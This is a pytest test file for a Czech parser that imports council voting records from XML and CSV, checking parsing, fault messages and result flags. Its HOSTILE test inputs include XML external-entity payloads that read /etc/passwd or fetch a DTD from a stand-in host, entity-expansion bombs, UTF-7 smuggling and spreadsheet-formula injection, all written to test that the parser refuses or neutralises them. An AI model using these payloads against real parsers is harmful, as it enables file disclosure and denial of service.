"""What does a machine's file say? Both dialects, safely; one sentence a fault with its row; labels flagged."""

from datetime import datetime, time

import pytest
from office_case import plain

from states.dates import PRAGUE
from states.input_faults import InputFaults
from states.machine_ballot import flags, matched_names, name_key
from states.vocabulary import VoteChoice
from states.vote_import import read_votes

HER = """<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="xsls/x.xsl" ?>
<Session number="201401" start_date="06.11.2014">
 <Title>1. zasedání</Title>
 <VotingResult number="12" time="06.11.2014 15:27:48" deputies="21" present="21" missing="0" aye="2" no="1"
   abstained="0" not_voting="18" quorum="1/2A" is_procedural="No" is_secret="No">
  <Topic number="1.2 " file="">Volba návrhové komise ZMV
    schvaluje návrhovou komisi</Topic>
  <Deputy id="1" title="MUDr." first_name="Adam" name="Bílý" vote="AYE"/>
  <Deputy id="2" title="" first_name="Alena" name="Černá" vote="AYE"/>
  <Deputy id="3" title="Ing." first_name="Bohumil" name="Dub" vote="NO"/>
  <Parties count="1"><Party present="21"><Member deputyId="1"/></Party></Parties>
 </VotingResult>
 <VotingResult number="11" time="06.11.2014 15:20:00" deputies="21" present="21" aye="11" no="0" abstained="9"
   not_voting="1" quorum="1/2P" is_procedural="Yes" is_secret="Yes" result="Nepřijato">
  <Topic number="1.1">Tajná volba</Topic>
  <Deputy first_name="Adam" name="Bílý" vote="NO"/>
 </VotingResult>
</Session>
"""
BRNO = (
    "number,datetime,subject,result,present,yes,no,abstained,did_not_vote\n"
    '24,2021-03-23T09:07:05+00:00,"21. Dotace, muzeum",Přijato,41,39,1,1,0\n'
    "25,2021-03-23T09:09:05+00:00,22. Prodej,Přijato,41,20,10,11,\n"
)
CZECH = (
    "\ufeffPořadí;Čas;Bod;Předmět;Přítomno;Pro;Proti;Zdržel se;Nehlasoval;Výsledek;Bílý Adam;Ing. Bohumil Dub\r\n"
    "1;14:05;1;Program;2;1;1;0;0;nepřijato;ano;ne\r\n"
)


def read(text: str, encoding: str = "utf-8"):
    return read_votes(text.encode(encoding), "hlasovani")


def faults_of(text: str) -> list[tuple[int, str]]:
    try:
        return [(fault.line, plain(fault.sentence)) for fault in read(text).faults]
    except InputFaults as faults:
        return [(fault.line, plain(fault.sentence)) for fault in faults.faults]


def test_ballots_come_in_the_order_of_voting_not_of_the_file() -> None:
    found = read(HER)
    assert (found.faults, [ballot.order for ballot in found.ballots]) == ((), [11, 12])
    secret, public = found.ballots
    assert (secret.is_secret, secret.is_procedural, secret.votes) == (True, True, ())
    assert public.motion == "Volba návrhové komise ZMV schvaluje návrhovou komisi"
    assert (public.item, public.present, public.not_voting) == ("1.2", 21, 18)
    assert public.at == datetime(2014, 11, 6, 15, 27, 48, tzinfo=PRAGUE)
    assert public.votes[2] == ("Bohumil Dub", VoteChoice.AGAINST)


def test_a_label_and_a_quorum_that_disagree_are_flagged() -> None:
    secret, public = read(HER).ballots
    said = " ".join(map(plain, flags(secret, 21)))
    assert "uvádí „Nepřijato“, ale podle hlasů je přijato: pro 11 z 21" in said
    assert "kvorum „1/2P“; k přijetí je vždy třeba nadpoloviční většina všech členů" in said
    assert flags(public, 21) == ()
    assert "počítá s 21 členy, podle pravidel města jich je 33" in plain(" ".join(flags(public, 33)))


def test_a_table_of_counts_in_english() -> None:
    found = read(BRNO)
    first, second = found.ballots
    assert (first.aye, first.no, first.abstained, first.said_result) == (39, 1, 1, "Přijato")
    assert first.motion == "21. Dotace, muzeum"
    assert flags(first, 55) == ()
    assert "podle hlasů je nepřijato: pro 20 z 55, třeba je 28" in plain(" ".join(flags(second, 55)))


@pytest.mark.parametrize("encoding", ["utf-8", "cp1250"])
def test_a_czech_table_with_people_in_columns(encoding: str) -> None:
    text = CZECH if encoding == "utf-8" else CZECH.lstrip("\ufeff")
    (ballot,) = read(text, encoding).ballots
    assert (ballot.clock, ballot.at, ballot.item) == (time(14, 5), None, "1")
    votes, faults = matched_names(ballot.votes, {4: "Adam Bílý", 9: "Bohumil Dub"})
    assert (votes, faults) == ({4: VoteChoice.FOR, 9: VoteChoice.AGAINST}, [])


def test_names_are_found_without_titles_and_in_any_order() -> None:
    assert name_key("Ing. arch. Jan VZOR, Ph.D.") == name_key("Vzor Jan")
    _votes, faults = matched_names(
        [("Jan Novák", VoteChoice.FOR), ("Nikdo Neznámý", VoteChoice.FOR)], {1: "Jan Novák", 2: "Novák Jan"}
    )
    assert [plain(fault) for fault in faults] == [
        "Jméno „Jan Novák“ je v orgánu vícekrát; zkontrolujte členy orgánu, nebo soubor.",
        "Jméno „Nikdo Neznámý“ v orgánu není; zkontrolujte členy orgánu, nebo soubor.",
    ]


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("", 0, "soubor je prázdný"),
        ("Pořadí;Pro\n1;5\n", 1, "chybí sloupec „Proti“"),
        ("Pro;Proti;Zdržel se;Ano\n1;2;3;4\n", 1, "sloupec „Pro“ je v tabulce dvakrát"),
        ("Pro;Proti;Zdržel se\nosm;0;0\n", 2, "hodnota „osm“ ve sloupci „Pro“ není celé číslo"),
        ("Pro;Proti;Zdržel se\n8;;0\n", 2, "chybí počet „Proti“; kde nikdo nebyl, napište 0"),
        ("Čas;Pro;Proti;Zdržel se\nráno;8;0;0\n", 2, "času „ráno“ nerozumíme"),
        ("Pro;Proti;Zdržel se;Jan Novák\n1;0;0;možná\n", 2, "hlasu „možná“ (Jan Novák) nerozumíme"),
        ("Pro;Proti;Zdržel se;Jan Novák\n0;1;0;ano\n", 2, "„pro“ je podle počtu 0, podle jmen 1"),
        ("Pořadí;Pro;Proti;Zdržel se\n1;1;0;0\n1;2;0;0\n", 3, "hlasování č. 1 je v souboru už na řádku 2"),
        ("Pro;Proti;Zdržel se\n", 0, "není žádné hlasování"),
        ('Pro;Proti;Zdržel se\n"1;0;0\n', 2, "zkontrolujte uvozovky"),
        ("<Session/>", 0, "není žádné hlasování"),
        ("<Session>", 0, "soubor XML je poškozený"),
        (
            '<Session><VotingResult aye="1" no="x" abstained="0"/></Session>',
            1,
            "hodnota „x“ ve sloupci „Proti“",
        ),
        (
            '<Session><VotingResult aye="1" no="0" abstained="0"><VotingResult/></VotingResult></Session>',
            0,
            "vložené do jiného",
        ),
    ],
)
def test_every_fault_is_a_sentence_with_its_row(text: str, line: int, words: str) -> None:
    found = faults_of(text)
    assert any(at == line and words in sentence for at, sentence in found), found


def test_an_xml_bomb_and_foreign_entities_are_refused_unread() -> None:
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbb">]><Session>&b;</Session>'
    assert faults_of(bomb) == [
        (0, "obsahuje deklaraci DOCTYPE nebo entity, které výsledky hlasování nemají mít.")
    ]
    many = "<a>" + "<b/>" * 200_001 + "</a>"
    assert "příliš mnoho částí" in faults_of(many)[0][1]


def test_a_file_that_is_too_big_is_refused() -> None:
    with pytest.raises(InputFaults):
        read_votes(b"a" * (5 * 1024 * 1024 + 1), "velky.csv")


def test_nobody_voting_is_flagged_as_a_probable_mistake() -> None:
    (ballot,) = read("Přítomno;Pro;Proti;Zdržel se;Nehlasoval\n21;0;0;0;21\n").ballots
    assert "Nikdo nehlasoval" in " ".join(flags(ballot, 21))


def test_the_machines_own_numbers_are_compared() -> None:
    (ballot,) = read("Přítomno;Pro;Proti;Zdržel se;Nehlasoval\n20;12;0;6;0\n").ballots
    assert "dohromady 18, ale přítomných uvádí zařízení 20" in plain(" ".join(flags(ballot, 21)))


HEAD = "Pro;Proti;Zdržel se\n"
HOSTILE = {
    "an entity from a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Session>&x;</Session>',
    "a billion laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><ballot aye="&b;"/>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://zly.example/x.dtd"> %x;]><Session/>',
    "a doctype alone": '<!DOCTYPE Session SYSTEM "x.dtd"><Session/>',
    "an undeclared entity": "<Session>&zly;</Session>",
    "a coding that nobody uses": '<?xml version="1.0" encoding="undefined"?><Session/>',
    "a coding of other things": '<?xml version="1.0" encoding="rot13"?><Session/>',
    "a coding of bytes": '<?xml version="1.0" encoding="hex"?><Session/>',
    "a coding that smuggles": '<?xml version="1.0" encoding="utf-7"?><Session>+ADw-</Session>',
    "a control character": "<Session>\x00</Session>",
    "a half": "<Session><ballot",
    "ballots one in another": "<Session>" + "<ballot>" * 3 + "</ballot>" * 3 + "</Session>",
    "many ballots": "<Session>" + "<ballot/>" * 60_000 + "</Session>",
    "deep elements": "<a>" * 150_000,
    "a long attribute": f'<ballot aye="{"9" * 3_000_000}"/>',
    "a long topic": f'<ballot aye="1" no="0" abstained="0"><topic>{"x" * 3_000_000}</topic></ballot>',
    "many rows": HEAD + "x;y;z\n" * 66_000,
    "many columns": ";".join(["Pro"] * 150_000) + "\n",
    "an open quotation mark": HEAD + '"' + "1;" * 1_000_000,
    "a long cell": HEAD + "1" * 200_000 + ";1;1\n",
    "digits of another script": HEAD + "¹;٣;1\n",
    "a number with a sign": HEAD + "-1;+1;1e3\n",
    "an endless number": HEAD + "9" * 5_000 + ";1;1\n",
    "a NUL": HEAD + "1\x00;1;1\n",
    "years that are none": "Čas;Pro;Proti;Zdržel se\n31.2.2024 14:00;1;0;0\n0000-01-01;1;0;0\n99999;1;0;0\n",
    "a time zone out of the world": "Čas;Pro;Proti;Zdržel se\n2024-01-01T00:00:00+99:99;1;0;0\n",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_answered_with_few_sentences_and_soon(text: str) -> None:
    found = faults_of(text)
    assert 1 <= len(found) <= 600
    assert all(len(sentence) < 400 for _, sentence in found)


@pytest.mark.parametrize(
    "data",
    [b"\xff\xfe<\x00a\x00", b"PK\x03\x04" + b"\x00" * 99, b"\x89PNG\r\n", b"\xff\xfe;\x00", b"%PDF-1.7"],
)
def test_what_is_no_table_and_no_xml_is_refused(data: bytes) -> None:
    with pytest.raises(InputFaults):
        read_votes(data, "obrazek.csv")


def test_a_formula_of_a_machine_is_words_and_nothing_else() -> None:
    (ballot,) = read("Předmět;Pro;Proti;Zdržel se;Výsledek\n=HYPERLINK(1);1;0;0;=1+1\n").ballots
    assert (ballot.motion, ballot.said_result) == ("=HYPERLINK(1)", "=1+1")
